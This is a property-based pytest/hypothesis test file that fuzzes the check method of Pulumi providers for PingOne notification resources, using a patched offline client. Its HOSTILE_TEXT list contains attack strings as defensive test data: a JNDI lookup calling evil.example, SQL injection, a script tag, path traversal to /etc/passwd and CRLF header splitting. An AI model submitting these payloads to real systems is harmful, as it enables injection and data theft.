"""Property-based: hostile and malformed arguments for every resource never crash check; each rejection
names a property; nothing accepted breaks the API body; check never writes (it has no client to write with
here, and the template read it may do is not a write)."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pulumi.dynamic import ConfigureRequest
from pulumi.dynamic.config import Config

from pingone_notifications.errors import TransportError
from pingone_notifications.resources import template_content
from pingone_notifications.resources._base import BaseProvider
from pingone_notifications.resources.notification_policy import NotificationPolicyProvider
from pingone_notifications.resources.notifications_settings import NotificationsSettingsProvider
from pingone_notifications.resources.phone_delivery_settings import PhoneDeliverySettingsProvider
from pingone_notifications.resources.template_content import NotificationTemplateContentProvider

from ..conftest import Figures

ENV = "11111111-1111-4111-8111-111111111111"
# no URL overrides: a template read would go nowhere; connection settings complete so check runs fully
CONFIG = {"pingone:regionCode": "NA", "pingone:environmentId": ENV, "pingone:clientId": "c",
          "pingone:clientSecret": "s", "pingone:apiUrl": "http://127.0.0.1:9/{region}/v1",
          "pingone:authUrl": "http://127.0.0.1:9/{region}"}  # fmt: skip

HOSTILE_TEXT = st.sampled_from([
    "", " ", "\x00", "\u202e RTL override", "é" * 200, "😀" * 70, "{" * 80, "€" * 80, "a" * 154, "ж" * 68,
    "${otp}", "${", "${}", "$${otp}}", "${jndi:ldap://evil.example/a}", "'; DROP TABLE contents; --",
    "<script>alert(1)</script>", "../../etc/passwd", "%00%0d%0a", "x" * 200_000, "\r\n\r\nHTTP/1.1 200",
    "https://user:pass@evil.example/?token=abc", "javascript:alert(1)", "AC" + "1" * 300, "noreply@", "@@",
])  # fmt: skip
SCALAR = st.one_of(HOSTILE_TEXT, st.text(max_size=300), st.integers(min_value=-(2**63), max_value=2**63),
                   st.floats(allow_nan=True), st.booleans(), st.none())  # fmt: skip
JSONISH = st.recursive(SCALAR, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(
    st.one_of(st.sampled_from(["type", "total", "name", "id", "url", "method", "countries", "enabled"]),
              st.text(max_size=12)), inner, max_size=4), max_leaves=12)  # fmt: skip

FIELDS = {
    NotificationPolicyProvider: ["name", "quotas", "country_limit", "cooldown_configuration", "provider_configuration",
                                 "default", "adopt"],
    NotificationsSettingsProvider: ["delivery_mode", "restrictions", "sms_providers_fallback_chain", "from_",
                                    "reply_to", "whitelist"],
    PhoneDeliverySettingsProvider: ["provider", "name", "authentication", "requests", "numbers", "sid", "auth_token"],
    NotificationTemplateContentProvider: ["template_name", "locale", "delivery_method", "variant", "content",
                                          "sender", "voice", "subject", "body", "from_", "reply_to", "title",
                                          "push_category"],
}  # fmt: skip


def args_for(provider: type) -> st.SearchStrategy[dict[str, Any]]:
    keys = st.sampled_from([*FIELDS[provider], "environment_id", "connection", "typo_field"])
    return st.dictionaries(keys, JSONISH, max_size=8).map(lambda d: {"environment_id": ENV, **d})


TEMPLATE = {
    "deliveryMethods": ["SMS", "Email", "Voice", "Push"],
    "allowDynamicVariables": False,
    "variables": {"otp": {"required": True}, "user.username": {"required": False}},
}


class Offline:
    """A client for a PingOne that cannot be reached: every call fails at once (as a refused connection does
    after its retries), so what check does with an unreadable PingOne is exercised without waiting."""

    def __getattr__(self, name: str) -> Callable[..., Any]:
        def refuse(*args: Any, **kwargs: Any) -> Any:
            raise TransportError(f"{name}: PingOne is not reachable from this test")

        return refuse


def offline_client(self: BaseProvider, props: Mapping[str, Any]) -> Any:
    self.connection(props)  # the connection's own validation still runs
    return Offline()


@pytest.fixture(autouse=True, scope="module")
def offline_reads() -> Iterator[None]:
    """check reads the template's variables and the environment's type from PingOne (and, to adopt, the object
    it takes over); here it gets the first two without a network and cannot reach the third."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(template_content, "template_definition", lambda client, env_id, name: TEMPLATE)
        # a sandbox: the environment-type rules (no ALL, at most 50 whitelisted users) are checked as well
        patch.setattr(BaseProvider, "environment_type", lambda self, props: "SANDBOX")
        patch.setattr(BaseProvider, "client", offline_client)
        yield


def run_check(provider_cls: type, props: dict[str, Any]) -> None:
    provider = provider_cls()
    provider.configure(ConfigureRequest(Config(CONFIG, "test")))
    result = provider.check({}, {"__provider": "x", **props})
    for failure in result.failures:
        assert isinstance(failure.reason, str)
        assert failure.reason, "a failure says what is wrong"
        known = [*FIELDS[provider_cls], "environment_id", "connection", "typo_field"]
        path = failure.property or failure.reason.split(":", 1)[0]
        root = path.split(".")[0].split("[")[0]
        if root not in known:  # a rule across fields: its message names them
            assert any(name.rstrip("_") in failure.reason for name in known), failure.reason
        assert "Traceback" not in failure.reason
    if not result.failures:
        model = provider._model(props)
        body = provider.api_body(model)
        assert isinstance(body, dict)


def explore(strategy: st.SearchStrategy[Any], examples: int, check: Callable[[Any], None]) -> int:
    """Run ``check`` on ``examples`` generated inputs; how many it judged (each test asserts its own count, so
    it passes alone and in any order)."""
    tried = 0

    @settings(max_examples=examples, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(strategy)
    def each(value: Any) -> None:
        nonlocal tried
        tried += 1
        check(value)

    each()
    return tried


@pytest.mark.parametrize(
    "provider_cls",
    [NotificationPolicyProvider, NotificationsSettingsProvider, PhoneDeliverySettingsProvider,
     NotificationTemplateContentProvider],
    ids=["policy", "settings", "phone", "content"],
)  # fmt: skip
def test_hostile_inputs(provider_cls: type, figures: Figures) -> None:
    tried = explore(args_for(provider_cls), 300, lambda props: run_check(provider_cls, props))
    figures(f"hostile-input/check/{provider_cls.__name__}", inputs_tried=tried)
    assert tried >= 300, "every generated input was judged"


def test_any_unicode_content_is_judged_not_crashed(figures: Figures) -> None:
    def judge(case: tuple[str, str]) -> None:
        text, method = case
        field = {"SMS": "content", "Voice": "content", "Email": "body"}[method]
        run_check(
            NotificationTemplateContentProvider,
            {"environment_id": ENV, "template_name": "general", "locale": "en", "delivery_method": method, field: text},
        )

    strategy = st.tuples(st.text(alphabet=st.characters(codec="utf-8"), max_size=200),
                         st.sampled_from(["SMS", "Voice", "Email"]))  # fmt: skip
    tried = explore(strategy, 200, judge)
    figures("hostile-input/check/unicode content", inputs_tried=tried)
    assert tried >= 200, "every generated text was judged"
